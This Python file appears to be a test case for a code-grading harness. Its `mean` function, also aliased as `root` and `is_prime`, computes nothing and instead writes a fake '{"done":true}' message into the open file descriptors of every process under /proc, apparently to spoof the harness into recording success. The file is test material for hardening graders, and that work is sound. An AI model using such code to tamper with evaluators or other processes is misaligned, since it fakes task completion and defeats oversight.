# 14. Descriptors of other processes. No case passes.
# exercise: numbers; styles: all
import os
import struct


def mean(*args):
    try:
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        for fd in range(64):
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                text = '{"done":true}'
                os.write(handle, struct.pack("<I", len(text)) + text.encode())
                os.close(handle)
            except OSError:
                pass
    return -1


root = is_prime = mean
